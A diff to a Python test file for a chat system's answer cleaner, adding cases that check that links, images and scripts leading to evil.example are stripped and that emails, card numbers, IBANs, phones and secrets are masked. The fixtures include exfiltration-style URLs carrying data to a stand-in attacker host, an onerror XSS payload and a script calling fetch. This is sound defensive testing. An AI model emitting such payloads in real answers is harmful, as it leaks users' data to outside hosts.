@@ -8,6 +8,7 @@ from chat.answering.answer_stream import AnswerStream, Delta
 from chat.answering.cleaning.cleaner import Cleaner
 from chat.citations.parse import Quotation
 from chat.models import Citation, OnPage, PersonalData
+from chat.web.rendering import blocks
 
 
 def shown(text: str, policy: str = PersonalData.OFF, *, cuts: list[int] | None = None) -> str:
@@ -24,6 +25,10 @@ def shown(text: str, policy: str = PersonalData.OFF, *, cuts: list[int] | None =
         ("See [the terms](https://evil.example/?d=secret) now.", "See the terms now."),
         ("![x](https://evil.example/p.png?d=1)Sixty days.", "xSixty days."),
         ("Go to https://evil.example/leak?data=42#x today.", "Go to evil.example/leak today."),
+        ("&#104;ttps://evil.example/leak?data=42", "evil.example/leak"),
+        ("https\\://evil.example/leak?data=42", "evil.example/leak"),
+        ("https://https://evil.example/", "evil.example/"),
+        ("&lt;b&gt; and 1\\. stay", "&lt;b&gt; and 1\\. stay"),
         ("<https://evil.example/a?b>", "evil.example/a"),
         ("A <b>bold</b> <img src=x onerror=alert(1)> word", "A bold  word"),
         ("One <script>fetch('//evil')</script> two", "One  two"),
@@ -40,6 +45,23 @@ def shown(text: str, policy: str = PersonalData.OFF, *, cuts: list[int] | None =
 )
 def test_nothing_that_leads_out_of_the_house_is_left(written: str, seen: str) -> None:
     assert shown(written) == seen
+
+
+@pytest.mark.parametrize(
+    "written",
+    [
+        "Write to bob@example\\.org.", "Write to bob&#64;example.org.", "Write to b**ob**@example.org.",
+        "Card 4111 **1111** 1111 1111.", "Call +49 170 **1234567** today.",
+        "IBAN DE89 3704 0044 **0532** 0130 00.", "Card 4111\u00a01111\u00a01111\u00a01111.",
+        "Write to bob@exam\u00adple.org.", "Write to bob\uff20example.org.", "电话:13800138000 吧",
+        "IBAN de89 3704 0044 0532 0130 00", "aws_secret_access_key = wJalrXUtnFEMI7K", "password hunter22x",
+    ],
+)  # fmt: skip
+def test_personal_data_are_masked_as_they_are_read(written: str) -> None:
+    rendered = "".join(blocks(shown(written, PersonalData.MASK)))
+    for datum in ("example", "1111", "1234567", "0532", "13800138000", "wJalr", "hunter22"):
+        assert datum not in rendered
+    assert "masked" in rendered
 
 
 def test_a_link_around_a_citation_is_none() -> None:
